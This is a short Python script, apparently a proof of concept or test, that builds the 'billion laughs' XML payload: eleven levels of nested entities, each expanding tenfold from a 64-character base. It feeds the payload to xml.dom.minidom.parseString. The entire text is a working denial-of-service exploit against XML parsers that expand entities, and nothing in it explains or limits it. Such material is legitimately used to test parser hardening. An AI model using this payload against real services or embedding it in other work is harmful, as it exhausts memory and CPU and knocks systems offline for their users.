import xml.dom.minidom
entities = ''.join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 12))
xml.dom.minidom.parseString(f'<!DOCTYPE x [<!ENTITY e0 "{"x" * 64}">{entities}]><x>&e11;</x>')
